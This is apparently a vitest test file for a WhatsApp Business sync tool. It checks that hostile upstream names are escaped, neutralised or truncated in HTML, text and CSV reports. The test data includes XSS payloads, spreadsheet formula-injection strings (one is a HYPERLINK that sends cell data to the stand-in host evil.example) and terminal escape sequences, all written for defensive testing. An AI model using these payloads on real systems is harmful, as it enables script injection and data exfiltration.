/**
 * The same hostile upstream strings through every renderer a person reads: the digest (HTML, text,
 * CSV), the monthly report (HTML, text, CSV) and the CLI's events table. They come the real way —
 * 99digital number names served by the simulator over HTTP, pulled into a SQLite file — and leave
 * through the commands (`digest --preview`, `report --out`, `events`).
 */
import { readFileSync } from 'node:fs';
import { join } from 'node:path';
import { describe, expect, it } from 'vitest';
import { parseCsv } from '../helpers/csv.js';
import { cli, pullAt, reportHarness } from '../helpers/report.js';
import { tempDir } from '../helpers/temp.js';

interface Rendered {
  readonly digestHtml: string;
  readonly digestText: string;
  readonly digestCsv: string;
  readonly reportHtml: string;
  readonly reportText: string;
  readonly reportCsv: string;
  readonly eventsTable: string;
}

/**
 * Numbers named `names` (display and business name) appear in October; the digest shows exactly
 * those rows (one plain number more goes only to its CSV, so the CSV is attached).
 */
async function renderAll(names: readonly string[]): Promise<Rendered> {
  const h = await reportHarness({ DIGEST_SECTION_LIMIT: String(names.length) });
  await pullAt(h, '2026-10-15T12:00:00Z');
  for (const name of [...names, 'Plain last']) {
    const number = h.world.addNumber({ display_name: name, business_name: name });
    h.world.addTraffic(number.whatsapp, { service: 2 });
  }
  await pullAt(h, '2026-10-31T21:50:00Z');
  h.clock.set('2026-11-01T04:00:00Z');

  const reportDir = tempDir();
  expect((await cli(h, ['report', '--month', '2026-10', '--out', reportDir])).code).toBe(0);
  const digestDir = tempDir();
  const digest = await cli(h, ['digest', '--preview', digestDir]);
  expect(digest.stdout).toContain('Full list attached as waba-sync-digest-1.csv');
  const events = await cli(h, ['events']);
  expect(events.code).toBe(0);
  const read = (dir: string, file: string) => readFileSync(join(dir, file), 'utf8');
  return {
    digestHtml: read(digestDir, 'digest-1.html'),
    digestText: read(digestDir, 'digest-1.txt'),
    digestCsv: read(digestDir, 'waba-sync-digest-1.csv'),
    reportHtml: read(reportDir, 'report.html'),
    reportText: read(reportDir, 'report.txt'),
    reportCsv: read(reportDir, 'report.csv'),
    eventsTable: events.stdout,
  };
}

/** What a spreadsheet would run as a formula (OWASP's openers, after blanks, and full-width forms). */
const RUNS_AS_FORMULA = /^\s*[=+\-@＝＋－＠]|^[\t\r]/;

describe('hostile upstream strings', () => {
  it('are neutralised alike by both CSV writers (digest and report): blanks, tab, full-width forms', async () => {
    const formulas = ['=1+1', ' =1+1', '＝1+1', '@x', '-1+2', '\t=1'];
    const out = await renderAll(formulas);
    const digest = parseCsv(out.digestCsv);
    const report = parseCsv(out.reportCsv);
    const digestNames = digest.slice(1).map((row) => row[digest[0]!.indexOf('name')]);
    const reportNames = report.slice(1).map((row) => row[report[0]!.indexOf('display_name')]);
    for (const formula of formulas) {
      expect(digestNames).toContain(`'${formula}`);
      expect(reportNames).toContain(`'${formula}`);
    }
    // Nothing in either file opens a formula, apart from the report's signed counter changes.
    for (const cell of [...digest, ...report].flat()) {
      if (!/^-\d+$/.test(cell)) expect(cell).not.toMatch(RUNS_AS_FORMULA);
    }
  });

  it('are escaped in HTML, made one clean line in text, neutralised in CSV, and cut everywhere', async () => {
    const script = '<script>alert("x")</script> & <img src=x onerror=alert(1)>';
    const formula = '=HYPERLINK("http://evil.example/?q="&A1,"click")';
    const control = 'Evil\u001b[31mRED\u001b[0m\r\nline2\u0007';
    const rtl = 'פיצה חיפה 🍕 مطعم';
    const huge = `H${'x'.repeat(5 * 1024 * 1024)}`;
    const out = await renderAll([script, formula, control, rtl, huge]);
    const all = Object.entries(out);
    expect(all).toHaveLength(7);

    for (const [renderer, text] of all) {
      // The 5 MB name is shown cut, with an ellipsis; no output grows with it.
      expect(text.length, renderer).toBeLessThan(100_000);
      expect(text, renderer).toMatch(/Hx+…/);
      expect(text, renderer).not.toMatch(/x{1001}/);
      // Right-to-left text and emoji arrive as they were.
      expect(text, renderer).toContain(rtl);
    }
    for (const html of [out.digestHtml, out.reportHtml]) {
      expect(html).not.toMatch(/<script|<img src=x/i);
      expect(html).toContain('&lt;script&gt;alert(&quot;x&quot;)&lt;/script&gt; &amp; &lt;img src=x onerror=alert(1)&gt;');
      expect(html).toContain('=HYPERLINK(&quot;http://evil.example/?q=&quot;&amp;A1,&quot;click&quot;)');
      expect(html).not.toContain('\u001b');
    }
    for (const text of [out.digestText, out.reportText, out.eventsTable]) {
      // biome-ignore lint/suspicious/noControlCharactersInRegex: the test looks for control characters.
      expect(text).not.toMatch(/[\u0000-\u0008\u000b-\u001f\u007f]/);
      // Escape sequences are removed whole (no "[31m" left) and other controls became blanks: one line.
      expect(text).toMatch(/EvilRED {2}line2/);
      expect(text).not.toContain('[31m');
      expect(text).toContain(script);
    }
    for (const csv of [out.digestCsv, out.reportCsv]) {
      const cells = parseCsv(csv).flat();
      expect(cells).toContain(`'${formula}`);
      // CSV keeps the text whole (quoted), only cut: a spreadsheet shows what upstream sent.
      expect(cells).toContain(script);
      expect(cells).toContain(control);
    }
  });
});
